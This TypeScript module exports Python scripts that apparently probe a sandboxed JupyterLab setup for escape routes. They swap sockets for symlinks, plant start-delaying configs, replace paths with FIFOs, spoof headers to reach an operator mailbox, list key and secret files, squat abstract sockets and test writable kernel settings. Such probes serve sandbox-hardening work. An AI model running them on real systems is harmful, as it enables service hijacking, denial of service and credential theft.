import { tmpdir } from "node:os";

/** Replaces each reachable socket by a symlink to another one. */
export const swap = (path: string) => `
import os, stat
def sockets(folder):
  for root, folders, files in os.walk(folder):
    for each in files:
      path = os.path.join(root, each)
      try:
        if stat.S_ISSOCK(os.lstat(path).st_mode): yield path
      except OSError: pass
for path in [each for folder in ('/run', '/tmp', os.path.expanduser('~')) for each in sockets(folder)]:
  try:
    os.rename(path, path + '.real'); os.symlink('${path}', path); print('swapped', path)
  except OSError as problem: print('kept', path, problem)
for folder in ('/run/jupyter', '/run'):
  try:
    os.rename(folder, folder + '.real'); os.symlink('${tmpdir()}', folder); print('swapped', folder)
  except OSError as problem: print('kept', folder, problem)
`;

/** Delays JupyterLab's start by 90 seconds if it reads its configuration from the home. */
export const configuration = `
import os
for folder in ('.jupyter', '.local/python/etc/jupyter', '.local/etc/jupyter'):
  folder = os.path.expanduser('~/' + folder); os.makedirs(folder, exist_ok=True)
  for name in ('jupyter_server_config.py', 'jupyter_lab_config.py', 'jupyter_config.py'):
    open(os.path.join(folder, name), 'w').write('import time\\ntime.sleep(90)\\n')
`;

export const pipe = `
import os
for path in ('~/.local/python/pyvenv.cfg', '~/.jupyter/lab', '~/.local/python/share/jupyter'):
  path = os.path.expanduser(path)
  try:
    if os.path.isdir(path): os.rename(path, path + '.kept')
    elif os.path.lexists(path): os.unlink(path)
    os.makedirs(os.path.dirname(path), exist_ok=True); os.mkfifo(path)
  except OSError as problem: print(problem)
`;

/** Tries every address and header that could pass for the operator, and searches for the operator key. */
export const outbox = (port: number, dataDir: string) => `
import os, urllib.request
hosts = ['127.0.0.1']
try:
  for line in open('/proc/net/route'):
    words = line.split()
    if words[1] == '00000000': hosts.append('.'.join(str(int(words[2][n:n + 2], 16)) for n in (6, 4, 2, 0)))
except OSError: pass
for host in hosts:
  for name in ('localhost:${port}', '127.0.0.1:${port}', '[::1]:${port}'):
    for more in ({}, {'X-Forwarded-For': '127.0.0.1'}, {'Cookie': 'outbox=1; key=1'}):
      for path in ('/outbox', '/outbox?key=', '/embedded-gateway/v1/test/mails'):
        try:
          request = urllib.request.Request('http://%s:${port}%s' % (host, path), headers={'Host': name, 'Accept': 'application/json', **more})
          print(urllib.request.urlopen(request, timeout=3).read().decode()[:20000].replace('\\n', ' '))
        except Exception as problem: print(host, path, problem)
for root, folders, files in os.walk('${dataDir}'):
  for each in files:
    if 'key' in each or 'secret' in each or 'password' in each: print('readable', os.path.join(root, each))
`;

/** Binds every visible abstract socket name as soon as it is free, for 30 seconds. */
export const squat = `
import socket, threading, time
names = sorted({line.split()[-1] for line in open('/proc/net/unix') if line.rstrip().split()[-1].startswith('@berth')})
held = []
def take(name):
  end = time.time() + 30
  while time.time() < end:
    try:
      taken = socket.socket(socket.AF_UNIX); taken.bind(chr(0) + name[1:]); taken.listen(); held.append(taken); return
    except OSError: time.sleep(0.002)
for name in names: threading.Thread(target=take, args=(name,), daemon=True).start()
print('\\n'.join(names) or 'nothing to take')
`;

/** Opens every setting of the machine's kernel to append to it, and writes nothing. */
export const kernelSettings = `
import os
tried = 0
for root in ('/proc/sys', '/proc/irq', '/proc/bus', '/proc/fs', '/proc/acpi'):
  for folder, _, files in os.walk(root):
    for each in files:
      tried += 1
      try: os.close(os.open(os.path.join(folder, each), os.O_WRONLY | os.O_APPEND)); print('open', os.path.join(folder, each))
      except OSError: pass
print('tried', tried)
`;
